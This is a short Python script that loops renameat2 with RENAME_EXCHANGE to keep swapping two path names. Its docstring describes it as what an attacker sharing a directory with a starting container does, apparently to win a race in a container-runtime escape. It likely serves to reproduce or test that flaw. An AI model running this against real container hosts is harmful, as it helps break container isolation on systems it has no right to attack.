#!/usr/bin/env python3
"""swap.py ONE OTHER: exchanges two names without a pause (renameat2 with RENAME_EXCHANGE), until it is killed: what
an attacker does who shares a directory with a container that is being started."""
import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
one, other = (name.encode() for name in sys.argv[1:3])
if libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) != 0:
    sys.exit("swap: cannot exchange them")
print("swapping", flush=True)
while True:
    libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)
